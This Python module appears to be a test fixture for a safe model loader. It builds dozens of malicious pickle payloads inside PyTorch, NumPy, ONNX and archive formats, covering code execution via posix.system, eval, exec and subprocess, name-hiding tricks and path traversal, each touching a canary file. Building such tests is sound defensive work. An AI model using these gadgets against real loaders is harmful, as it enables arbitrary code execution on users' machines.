"""Files that run a program when they are loaded without care: each touches a canary file.

They are put together from pickle's opcodes, so that making them runs nothing. `fires` says how a careless reader
sets one off ("pickle", "torch" or "numpy"); None marks those that aim at readers which this project does not have.
"""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import torch

Python = str | bytes | int | tuple["Python", ...]


@dataclass(frozen=True)
class Gadget:
    name: str
    content: bytes
    suffix: str = ".pt"
    fires: str | None = "pickle"


def push(value: Python) -> bytes:
    """Opcodes that put a plain value on the stack."""
    return pickle.dumps(value, protocol=2)[2:-1]


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def whole(opcodes: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + opcodes + b"."


def framed(opcodes: bytes) -> bytes:
    """Protocol 5: the opcodes lie in a frame, whose length stands before them."""
    return b"\x80\x05\x95" + struct.pack("<Q", len(opcodes) + 1) + opcodes + b"."


def zipped(pickled: bytes, more: dict[str, bytes] | None = None, root: str = "archive/") -> bytes:
    """A checkpoint in PyTorch's zip form around a pickle."""
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        for path, content in {
            "data.pkl": pickled,
            "version": b"3\n",
            "byteorder": b"little",
            **(more or {}),
        }.items():
            archive.writestr(root + path, content)
    return memory.getvalue()


def legacy(first: bytes, last: bytes) -> bytes:
    """PyTorch's form before 1.6: magic number, protocol, system, object, keys."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    system = pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)
    return first + magic + system + last + pickle.dumps([], 2)


def tarred(pickled: bytes) -> bytes:
    """PyTorch's first form, a tar archive."""
    memory = io.BytesIO()
    with tarfile.open(fileobj=memory, mode="w") as archive:
        for path in ("storages", "tensors", "pickle"):
            content = pickled if path == "pickle" else pickle.dumps(0, 2) + pickle.dumps([], 2)
            member = tarfile.TarInfo(path)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return memory.getvalue()


def numpy_object(pickled: bytes) -> bytes:
    """A NumPy array of objects is a header and a pickle."""
    memory = io.BytesIO()
    np.lib.format.write_array_header_1_0(memory, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return memory.getvalue() + pickled


def valid_state_and(opcodes: bytes) -> bytes:
    """A checkpoint of real tensors, into whose dictionary one more entry was written."""
    memory = io.BytesIO()
    torch.save({"weight": torch.ones(2, 3)}, memory)
    with zipfile.ZipFile(memory) as archive:
        files = {path: archive.read(path) for path in archive.namelist()}
    body = next(content for path, content in files.items() if path.endswith("data.pkl"))
    changed = io.BytesIO()
    with zipfile.ZipFile(changed, "w") as archive:
        for path, content in files.items():
            archive.writestr(path, body[:-1] + push("more") + opcodes + b"s." if content is body else content)
    return changed.getvalue()


def gadgets(canary: Callable[[str], Path]) -> list[Gadget]:
    """All of them; `canary(name)` is the file that gadget `name` touches."""

    def shell(label: str) -> bytes:
        return push(f"touch {canary(label)}")

    def system(label: str) -> bytes:
        return call(name("posix", "system"), shell(label))

    def code(label: str) -> bytes:
        return push(f"open({str(canary(label))!r}, 'w').close()")

    def path_of(label: str) -> bytes:
        return push(str(canary(label)))

    def touch(label: str) -> bytes:
        """pathlib.Path(canary).touch(), by names alone."""
        made = call(name("pathlib", "Path"), path_of(label))
        return call(call(name("builtins", "getattr"), made, push("touch")))

    partial = call(name("functools", "partial"), name("builtins", "print"))
    # What the safe reader does not know, so that a careful program falls back on the other one.
    unknown = b"]" + call(name("numpy.random", "RandomState")) + b"a"
    rebuilt = b"(" + name("posix", "system") + b"(" + shell("build") + b"t}Ntb"
    timer = name("time", "time")
    stack_global = push("posix") + push("system") + b"\x93"
    pickle_within = whole(system("nested load"))
    # The function is looked up by a call, so that no opcode names it.
    looked_up = call(
        name("builtins", "getattr"), call(name("importlib", "import_module"), push("os")), push("system")
    )
    # An iterator that runs its function when something else reads it.
    lazily = call(name("builtins", "map"), name("posix", "system"), b"]" + shell("lazily") + b"a")
    from_the_memo = name("posix", "system") + b"q\xc80" + call(b"h\xc8", shell("frame and memo, protocol 5"))
    storage = (push("storage"), name("torch", "FloatStorage"), push("0"), system("persistent id"), push(1))
    return [
        Gadget("reduce", whole(system("reduce"))),
        Gadget("reduce, protocol 0", system("reduce, protocol 0") + b"."),
        Gadget("reduce, protocol 4", whole(system("reduce, protocol 4"), 4)),
        Gadget("stack global", whole(stack_global + b"(" + shell("stack global") + b"tR", 4)),
        Gadget("inst", b"(" + shell("inst") + b"iposix\nsystem\n."),
        Gadget("obj", whole(b"(" + name("posix", "system") + shell("obj") + b"o")),
        Gadget("newobj", whole(call(name("subprocess", "Popen"), push(("touch", str(canary("newobj"))))))),
        Gadget("eval", whole(call(name("builtins", "eval"), code("eval")))),
        Gadget("exec", whole(call(name("builtins", "exec"), code("exec")))),
        Gadget("open", whole(call(name("io", "open"), path_of("open"), push("w")))),
        Gadget("pathlib", whole(touch("pathlib"))),
        Gadget("build", whole(call(partial + rebuilt))),
        Gadget("timeit", whole(call(name("timeit", "timeit"), code("timeit"), push("pass"), timer, push(1)))),
        Gadget(
            "spawn",
            whole(call(name("os", "spawnlp"), push(0), push("touch"), push("touch"), path_of("spawn"))),
        ),
        Gadget("shutil", whole(call(name("shutil", "copyfile"), push("/etc/hostname"), path_of("shutil")))),
        Gadget("numpy tofile", whole(call(name("numpy", "savetxt"), path_of("numpy tofile"), push((1, 2))))),
        Gadget("torch.save", whole(call(name("torch", "save"), push(1), path_of("torch.save")))),
        Gadget("looked up", whole(call(looked_up, shell("looked up")))),
        Gadget("lazily", whole(call(name("collections", "deque"), lazily))),
        Gadget("profiler", whole(call(name("cProfile", "run"), code("profiler")))),
        Gadget("frame and memo, protocol 5", framed(from_the_memo)),
        Gadget("persistent id", zipped(whole(b"(" + b"".join(storage) + b"tQ")), fires="torch"),
        Gadget("key of a dictionary", whole(b"}" + system("key of a dictionary") + push(1) + b"s")),
        Gadget("after a state dict", valid_state_and(system("after a state dict")), fires="torch"),
        Gadget("zip", zipped(whole(system("zip"))), fires="torch"),
        Gadget("zip, other root", zipped(whole(system("zip, other root")), root="x/y/"), fires=None),
        Gadget("zip in a zip", zipped(zipped(whole(system("zip in a zip"))), {"data/0": b""}), fires=None),
        Gadget(
            "nested load",
            whole(call(name("torch.storage", "_load_from_bytes"), push(legacy(b"", pickle_within)))),
        ),
        Gadget("legacy, first", legacy(whole(system("legacy, first")), pickle.dumps({}, 2))),
        Gadget("legacy, object", legacy(b"", whole(system("legacy, object"))), fires="torch"),
        Gadget("tar", tarred(whole(system("tar"))), ".tar", fires="torch"),
        Gadget("fallback", zipped(whole(unknown + system("fallback") + b"a")), fires="torch"),
        Gadget(
            "allowed function, forbidden argument",
            zipped(
                whole(
                    call(
                        name("torch._tensor", "_rebuild_from_type_v2"),
                        name("posix", "system"),
                        name("torch", "Tensor"),
                        b"(" + shell("allowed function, forbidden argument") + b"t",
                        b"N",
                    )
                )
            ),
            fires="torch",
        ),
        Gadget("numpy object", numpy_object(whole(system("numpy object"))), ".bin", fires="numpy"),
        Gadget("gzip", gzip.compress(whole(system("gzip"))), ".pkl", fires=None),
        Gadget("pickle called safetensors", whole(system("pickle called safetensors")), ".safetensors"),
        Gadget(
            "torchscript", zipped(whole(b"}"), {"constants.pkl": whole(system("torchscript"))}), fires=None
        ),
        Gadget(
            "exported program",
            zipped(whole(b"}"), {"data/sample_inputs/model.pt": zipped(whole(system("exported program")))}),
            ".pt2",
            fires=None,
        ),
        Gadget("onnx with data outside", onnx_outside(canary("onnx with data outside")), ".onnx", fires=None),
        Gadget(
            "record outside", zipped(whole(b"}"), {"../../../canary": system("record outside")}), fires=None
        ),
    ]


def onnx_outside(target: Path) -> bytes:
    """The start of an ONNX model whose weights lie in a file that the model names, outside its folder."""

    def field(number: int, content: bytes) -> bytes:
        return bytes([number << 3 | 2]) + struct.pack("B", len(content)) + content

    location = field(1, b"location") + field(2, f"../../../..{target}".encode()[:100])
    tensor = (
        field(8, b"weight") + b"\x70\x01" + bytes([13 << 3 | 2]) + struct.pack("B", len(location)) + location
    )
    return b"\x08\x08" + field(2, tensor[:120])
